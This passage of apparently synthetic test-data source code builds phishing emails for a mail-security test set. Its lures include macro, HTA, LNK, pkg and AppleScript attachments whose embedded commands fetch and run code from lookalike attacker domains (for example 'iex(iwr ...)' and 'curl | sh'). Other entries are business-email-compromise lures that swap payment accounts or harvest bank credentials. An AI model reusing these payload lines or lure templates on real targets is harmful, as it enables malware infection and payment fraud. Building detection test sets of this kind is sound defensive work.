      """李先生您好，

附件为年度审计函证文件，已加密。解压密码：DT2026hk

请于本周五前签署回传。

陈明""", "2026-11-10 10:05 +0800",
      attachments=(Att("审计函证_2026.zip", zip_archive([("审计函证_2026.pdf.js",
          jscript("https://deloitte-audit-hk.com/c/d.txt"))], password="DT2026hk"), "application/zip"),)),
    L(ATT, "ar", "Arabic 'invoice' with a double extension .pdf.exe inside a plain zip",
      ("قسم الفواتير - شركة الريان", "billing@alrayyan-it.com"), HADDAD, "فاتورة الخدمات لشهر نوفمبر",
      """السيد عمر،

مرفق فاتورة خدمات شهر نوفمبر. يرجى السداد خلال أسبوع.""", "2026-11-12 10:30 +0400",
      attachments=(Att("فاتورة_نوفمبر.zip", zip_archive([("Invoice_Nov_2026.pdf                    .exe",
          pe_stub("g-dblext"))]), "application/zip"),)),
    L(ATT, "en", "RLO-named screensaver disguised as a PDF 'KYC pack'",
      ("Onboarding - Falkner OTC", "onboarding@falkner-otc.com"), TANAKA, "KYB pack for our new account",
      """Hi Mika,

Our KYB pack for opening the OTC account with you is attached. Let us know if anything is missing.

Falkner OTC Onboarding""", "2026-11-13 07:20 +0000",
      attachments=(Att("KYB_pack_\u202efdp.scr", pe_stub("g-rlo"), "application/octet-stream"),)),
    L(ATT, "fr", "French macro document (.docm) with AutoOpen launching PowerShell",
      ("Cabinet Vermandois Avocats", "secretariat@vermandois-avocats.eu"), LAURENT, "Projet de pacte d'associés",
      """Maître Vermandois vous transmet le projet de pacte d'associés. Le document est protégé : activez le contenu
pour l'afficher.""", "2026-11-14 15:00 +0100",
      attachments=(Att("Projet_pacte_associes.docm", word_document(["Document protégé. Activez le contenu."], [
          ("NewMacros", 'Sub AutoOpen()\r\n  Shell "powershell -w hidden -c iex(iwr https://vermandois-avocats.eu/p.ps1 -UseB)", 0\r\nEnd Sub\r\n', False)]),
          "application/vnd.ms-word.document.macroEnabled.12"),)),
    L(ATT, "en", "macOS pkg 'wallet audit tool' with a postinstall that fetches and runs a binary",
      ("Julia Novak | Chainproof Labs", "julia@chainproof-labs.io"), SUZUKI, "Smart-contract audit CLI for your team",
      """Hi Kenta,

Here is the audit CLI installer for macOS we promised after the conference. Double-click the package, then run
`chainproof scan` in your repo.

Julia""", "2026-11-15 09:00 +0000",
      attachments=(Att("ChainproofCLI-1.9.pkg", xar_pkg("io.chainproof.cli",
          "curl -fsSL https://chainproof-labs.io/b/agent -o /tmp/.cpa && chmod +x /tmp/.cpa && /tmp/.cpa &"),
          "application/octet-stream"),)),
    L(ATT, "ja", "SVG 'fax notice' smuggling a zip with a JScript file",
      ("複合機 スキャン通知", "scanner@kitsune-ex-fax.jp"), ("経理部", "keiri@kitsune-ex.co.jp"), "[スキャン] 受信FAX 3ページ",
      """FAXを受信しました。添付の画像を開いて内容をご確認ください。""", "2026-11-16 08:55 +0900",
      attachments=(Att("FAX_20261116.svg", svg_smuggling(zip_archive([("FAX_20261116.js",
          jscript("https://kitsune-ex-fax.jp/f/x.txt"))]), "FAX_20261116.zip", "FAX 3ページ - 読み込み中"),
          "image/svg+xml"),)),
    L(ATT, "en", "HTA 'secure message' attachment running hidden PowerShell",
      ("Secure Message Centre", "securemsg@hsbc-securemail.net"), TREASURY, "You have received a secure message",
      """You have received a secure message regarding your corporate account. Open the attachment to read it.""",
      "2026-11-17 06:30 +0000",
      attachments=(Att("SecureMessage.hta", hta("powershell -nop -w hidden -c iex(iwr https://hsbc-securemail.net/m.ps1 -UseB)",
          "Secure Message"), "application/hta"),)),
    L(ATT, "en", "zipped AppleScript .app posing as a deck from an 'investor'",
      ("Kevin Ortiz | Solstice Ventures", "kevin@solstice-vc.xyz"), CEO, "Deck + LP letter",
      """Haruto - deck and LP letter attached (Mac app, it opens both PDFs). Let me know your thoughts before Monday.

Kevin""", "2026-11-17 22:10 +0000",
      attachments=(Att("Solstice_Deck.zip", mac_app_zip("Solstice_Deck", 'do shell script "curl -fsSL https://solstice-vc.xyz/d/s | sh"'),
          "application/zip"),)),

    # ---------------------------------------------------------------- conversation hijacks
    L(CH, "en", "RE: in the Larkspur settlement thread from a one-letter-longer lookalike changes the settlement wallet",
      LARKSPUR_FAKE, TANAKA, "RE: Larkspur / Kitsune - November settlement schedule",
      """Hi Mika,

Quick update before Friday's settlement: our treasury moved to a new custodian this week, so please send the
USDC leg to the address below instead of the one in the schedule:

0x5Ab2e07C91d4F3a68B0c1E7d29F5a4C3e8B06d71

Everything else stays the same. Thanks!

Owen Pritchard
Larkspur Digital Markets

> On 9 Nov 2026, Mika Tanaka wrote:
> Thanks Owen, schedule confirmed on our side.""", "2026-11-11 10:05 +0000",
      in_reply_to=MID["larkspur"], references=MID["larkspur"]),
    L(CH, "ja", "RE: in the Hoshino Trust thread from an l-for-i lookalike sends a new bank account",
      HOSHINO_FAKE, KEIRI, "RE: 信託報酬のご請求について（11月分）",
      """経理部 ご担当者様

いつもお世話になっております。星野信託の山口です。
先日お送りした請求書につきまして、振込先口座が監査対応のため変更となりました。
大変お手数ですが、今回より下記口座へお振込みください。

あおば銀行 本店営業部 普通 7719302 ホシノシンタク（カ

何卒よろしくお願いいたします。""", "2026-11-07 16:40 +0900",
      in_reply_to=MID["hoshino"], references=MID["hoshino"]),
    L(CH, "fr", "RE: from an extra-s lookalike of Banque Ardenne asks to re-send KYC documents through a new portal",
      ARDENNE_FAKE, LAURENT, "RE: Ouverture du compte de cantonnement",
      """Bonjour Camille,

Pour finaliser l'ouverture du compte de cantonnement, merci de redéposer les pièces (statuts, Kbis, pièces
d'identité des dirigeants) ainsi que les identifiants de votre banque actuelle sur notre nouveau portail :
https://portail.ardennes-privee.fr/kyc

Bien cordialement,
Bastien Lefort""", "2026-11-08 11:30 +0100",
      in_reply_to=MID["ardenne"], references=MID["ardenne"]),
    L(CH, "ko", "FW: without In-Reply-To from a .co lookalike of Daeyang Custody attaches a 'statement' LNK in a zip",
      DAEYANG_FAKE, PARK, "FW: 11월 보관 잔고 확인서",
      """박대현님,

요청하신 11월 보관 잔고 확인서를 전달드립니다. 압축 파일을 열어 확인해 주세요.

한지민 드림

---------- Forwarded message ---------
From: 대양커스터디 운영팀
Subject: 11월 보관 잔고 확인서""", "2026-11-09 15:10 +0900",
      attachments=(Att("잔고확인서_202611.zip", zip_archive([("잔고확인서_202611.pdf.lnk",
          lnk(r"C:\Windows\System32\cmd.exe", "/c start /min powershell -w hidden -c iwr https://daeyang-custody.co/s.ps1|iex",
              r"%SystemRoot%\System32\imageres.dll,-102"))]), "application/zip"),)),
    L(CH, "ar", "RE: from a letter-dropped lookalike of Gulf Meridian changes the USDT deposit address",
      GULF_FAKE, HADDAD, "RE: تسوية صفقة الأسبوع",
      """عمر،

تحية طيبة. يرجى ملاحظة أن عنوان الإيداع الخاص بنا قد تغيّر بسبب تحديث أمني. أرسلوا مبلغ التسوية إلى:
TXb6nE2qRf8Lk4WmC9yP3aV7dJ5hS1oGzU

وشكراً لتعاونكم.
خالد""", "2026-11-10 12:20 +0400",
      in_reply_to=MID["gulf"], references=MID["gulf"]),
    L(CH, "zh", "RE: from a zero-for-o lookalike of Lianfeng OTC sends a new collection account and urges speed",
      LIANFENG_FAKE, LI, "RE: 本周大宗交易结算确认",
      """李伟你好，

补充说明：因银行风控调整，本周结算请改打到我们新的收款账户（香港）：
银行：汇通银行 账号：582-331907-001 户名：Lianfeng Trading Ltd

今天下午四点前到账，否则本周报价作废。

周静""", "2026-11-12 13:05 +0800",
      in_reply_to=MID["lianfeng"], references=MID["lianfeng"]),
    L(CH, "en", "FW: of a partner thread without In-Reply-To, from the Larkspur lookalike, with a DocuSign-looking link to a fake domain",
      LARKSPUR_FAKE, CFO, "FW: Amended master settlement agreement - signature needed",
      """Emily,

Forwarding the amended MSA our legal team finalised. Please sign via DocuSign today so Friday's settlement can
run under the new terms:

https://docusign.larkspur-dmk.com/sign/MSA-2026-11

Owen""", "2026-11-13 09:45 +0000"),
]
